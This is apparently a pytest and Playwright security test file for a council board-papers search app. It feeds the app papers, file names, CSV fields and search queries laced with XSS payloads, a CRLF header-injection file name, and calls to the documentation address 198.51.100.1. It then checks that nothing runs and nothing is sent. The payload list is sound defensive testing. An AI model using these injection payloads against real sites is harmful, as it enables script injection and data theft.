"""Papers, file names and questions that are attacks, in a real browser: nothing runs, nothing is sent."""

from __future__ import annotations

import csv
import hashlib
import itertools
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.conftest import ROOT, WAIT
from tests.makers import pdf_maker
from tests.makers.app_runner import running

pytestmark = pytest.mark.browser

# Each would leave `owned` behind or call the address, which belongs to documents (RFC 5737) and to nobody.
ATTACKS = (
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    '"><svg onload=window.owned=1>',
    "'-window.owned=1-'",
    "<iframe src='javascript:parent.owned=1'></iframe>",
    "<a href='javascript:window.owned=1' autofocus onfocus=window.owned=1>ferry</a>",
    "[ferry](javascript:window.owned=1) ![ferry](http://198.51.100.1/ferry.png)",
    "<style>@import 'http://198.51.100.1/ferry.css';</style><link rel=stylesheet href=http://198.51.100.1/ferry.css>",
    "</textarea></script><script>window.owned=1</script>",
    "{{constructor.constructor('window.owned=1')()}} ${window.owned=1}",
    "<math><mi//xlink:href='data:x,<script>window.owned=1</script>'>",
    "<form action=http://198.51.100.1/><input name=q><button>ferry</button></form>",
)
# A name may hold anything but a slash and the end of a string.
NAME = "Ferry <img src=x onerror=window.owned=1> [a](javascript:window.owned=1) \"'`$E$ :red[x]\r\nX-Evil: 1"
QUESTION = "Was the ferry subsidy agreed?"


def minutes() -> list[str]:
    """Lines of minutes about a ferry, every one of them an attack as well."""
    lines = [
        "Fenshire Council",
        "Ferry Board, 4 March 2021",
        "",
        "12. FERRY SUBSIDY <img src=x onerror=window.owned=1>",
    ]
    for attack in ATTACKS:
        lines += [f"The ferry subsidy was discussed. {attack}", ""]
    return [*lines, "RESOLVED: that the ferry subsidy be agreed <script>window.owned=1</script> in full.", ""]


@pytest.fixture(scope="module")
def papers(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Write hostile papers."""
    papers = tmp_path_factory.mktemp("papers")
    (papers / f"{NAME}.txt").write_text("\n".join(minutes()), encoding="utf-8")
    pdf_maker.write(papers / f"{NAME}.pdf", lambda canvas: pdf_maker.text(canvas, minutes(), size=8, step=14))
    with (papers / "papers.csv").open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["path", "authority", "board", "title", "url"])
        hostile = [f"{where} {ATTACKS[1]} {ATTACKS[0]}" for where in ("Fenshire", "Ferry Board", "Minutes")]
        writer.writerow([f"{NAME}.pdf", *hostile, "javascript:window.owned=1"])
    return papers


@pytest.fixture(scope="module")
def archive(papers: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Index them by the command that a user types."""
    folder = tmp_path_factory.mktemp("hostile") / "archive"
    command = [sys.executable, "-m", "indexer", "index", str(papers), "--archive", str(folder)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return folder


@pytest.fixture(scope="module")
def hostile(archive: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The app on that archive."""
    with running(archive, tmp_path_factory.mktemp("app")) as address:
        yield address


@pytest.fixture
def watched(context: BrowserContext, hostile: str) -> Iterator[Page]:
    """A tab that notes what no page of ours does; at the end it must have noted nothing."""
    page = context.new_page()
    noted: list[str] = []
    ours = (hostile, f"ws{hostile.removeprefix('http')}", "data:", "blob:")
    page.on("request", lambda sent: None if sent.url.startswith(ours) else noted.append(f"asked {sent.url}"))
    page.on("dialog", lambda dialog: (noted.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: noted.append(f"error {error}"))
    page.on("websocket", lambda socket: None if socket.url.startswith(ours) else noted.append(f"called {socket.url}"))
    # What the policy had to stop had already got too far.
    page.on("console", lambda said: noted.append(said.text) if "Content Security Policy" in said.text else None)
    yield page
    assert page.evaluate("window.owned") is None
    page.close()
    assert noted == []


def planted(page: Page) -> list[str]:
    """Elements that only an attack brings into a page."""
    found: list[str] = page.evaluate(
        "[...document.querySelectorAll('iframe, object, embed, math, main form[action], main link, [onerror], [onload],"
        ' [onfocus], [srcdoc], a[href^="javascript:" i], [src^="http://198"], [href^="http://198"]\')]'
        ".map(element => element.outerHTML)"
    )
    return found


def still(page: Page) -> None:
    """Wait until the page is drawn, which ends with what stands below its heading."""
    expect(page.get_by_role("heading", level=1)).to_be_visible(timeout=WAIT)
    expect(page.locator("[data-testid=stApp][data-test-script-state=notRunning]")).to_be_attached(timeout=WAIT)
    expect(page.locator("[data-testid=stException]")).to_have_count(0)


def test_papers_that_are_attacks_are_shown_as_they_stand_on_every_page(watched: Page, hostile: str) -> None:
    # The filter leaves the paper that has sheets.
    authority = f"Fenshire {ATTACKS[1]} {ATTACKS[0]}"
    watched.goto(f"{hostile}/?q={quote(QUESTION)}&authority={quote(authority)}")
    expect(watched.locator("#passage-1")).to_be_visible(timeout=WAIT)
    expect(watched.locator(".st-key-cited img").first).to_be_visible(timeout=WAIT)
    assert "<script>window.owned=1</script>" in watched.locator("#passage-1").inner_text()
    assert planted(watched) == []
    pages = watched.get_by_role("navigation", name="Pages", exact=True).locator("a")
    places = [str(link.get_attribute("href")) for link in pages.all()]
    assert len(places) >= 5
    for place in places:
        query = f"?q={quote('ferry subsidy')}" if "timeline" in place or "precedents" in place else ""
        watched.goto(f"{hostile}/{place.rpartition('/')[2]}{query}")
        still(watched)
        assert planted(watched) == [], place


def test_a_paper_and_its_pages_are_shown_and_lead_nowhere_else(watched: Page, hostile: str, papers: Path) -> None:
    for ending in ("pdf", "txt"):
        digest = hashlib.sha256((papers / f"{NAME}.{ending}").read_bytes()).hexdigest()
        watched.goto(f"{hostile}/papers?paper={digest}")
        still(watched)
        expect(watched.get_by_text("window.owned=1").first).to_be_attached(timeout=WAIT)
        assert planted(watched) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_question_that_is_an_attack_is_only_a_question(watched: Page, hostile: str, attack: str) -> None:
    other = f"board={quote(attack)}&kind={quote(attack)}&from={quote(attack)}&passage={quote(attack)}"
    watched.goto(f"{hostile}/?q={quote(attack)}&{other}")
    still(watched)
    expect(watched.get_by_label("Your question")).to_have_value(attack)
    assert planted(watched) == []


def test_a_huge_question_is_cut_and_answered(watched: Page, hostile: str) -> None:
    watched.goto(f"{hostile}/?q={quote('ferry <b> ' * 2_000)}")
    still(watched)
    assert len(watched.get_by_label("Your question").input_value()) <= 2_000


def test_what_slips_into_a_page_can_run_nothing_load_nothing_and_send_nothing(
    context: BrowserContext, site: str
) -> None:
    page = context.new_page()
    sent: list[str] = []
    page.on("requestfinished", lambda request: sent.append(request.url))
    page.goto(f"{site}/about")
    still(page)
    for attack in ATTACKS:
        page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", attack)
    page.evaluate("document.querySelectorAll('a[onfocus]').forEach(link => { link.focus(); link.click(); })")
    page.evaluate("const made = document.createElement('script'); made.textContent = 'window.owned = 1';"
                  "document.head.append(made)")  # fmt: skip
    page.evaluate("setTimeout('window.owned = 1', 0)")
    # A websocket is refused when it connects.
    refused = page.evaluate(
        "Promise.all([() => fetch('http://198.51.100.1/'), () => import('http://198.51.100.1/x.js'),"
        " () => new Promise((done, failed) => { const made = new WebSocket('ws://198.51.100.1/');"
        " made.onopen = done; made.onerror = failed; })]"
        ".map(run => Promise.resolve().then(run).then(() => 'done', () => 'refused')))"
    )
    assert refused == ["refused"] * 3
    assert page.evaluate("window.owned") is None
    assert [url for url in sent if not url.startswith((site, "data:", "blob:"))] == []
    page.close()


def test_no_page_of_the_app_is_stopped_by_its_own_policy_or_asks_elsewhere(context: BrowserContext, site: str) -> None:
    page = context.new_page()
    noted: list[str] = []
    page.on("console", lambda said: noted.append(said.text) if "Content Security Policy" in said.text else None)
    page.on("request", lambda sent: None if sent.url.startswith((site, "data:", "blob:")) else noted.append(sent.url))
    views = ["", "?q=What+did+the+board+decide+about+CSE%3F", "timeline?q=CSE", "precedents?q=school+transport"]
    views += ["decisions", "papers", "coverage", "saved", "about"]
    for view in views:
        page.goto(f"{site}/{view}")
        still(page)
    minutes = next((ROOT / "data" / "sample").rglob("Minutes 13 March 2018.pdf")).read_bytes()
    page.goto(f"{site}/papers?paper={hashlib.sha256(minutes).hexdigest()}")
    still(page)
    page.close()
    assert noted == []


def test_a_script_of_ours_that_is_handed_data_does_its_work(browser: Browser, site: str) -> None:
    # A reader who has saved nothing yet.
    page = browser.new_page()
    page.goto(f"{site}/decisions?q=transport")
    page.get_by_role("button", name="Save this search").click()
    expect(page.get_by_text("Saved. The page Saved")).to_be_visible(timeout=WAIT)
    expect(page.locator("script[data-cookie]")).to_be_attached(timeout=WAIT)
    assert "board-papers-list=" in page.evaluate("document.cookie")
    page.close()


def test_the_bars_of_a_chart_have_their_lengths(context: BrowserContext, site: str) -> None:
    page = context.new_page()
    page.goto(f"{site}/decisions")
    page.locator("summary").filter(has_text="Decisions by year").click()
    expect(page.locator(".fill").first).to_be_visible(timeout=WAIT)
    bars = page.evaluate(
        "[...document.querySelectorAll('.fill')].map(bar => [bar.getAttribute('width'), bar.offsetWidth /"
        " bar.parentElement.clientWidth])"
    )
    page.close()
    assert len({width for width, _ in bars}) > 1
    by_width = sorted(bars, key=lambda bar: int(bar[0].rstrip("%")))
    assert all(one[1] <= other[1] + 0.02 for one, other in itertools.pairwise(by_width))
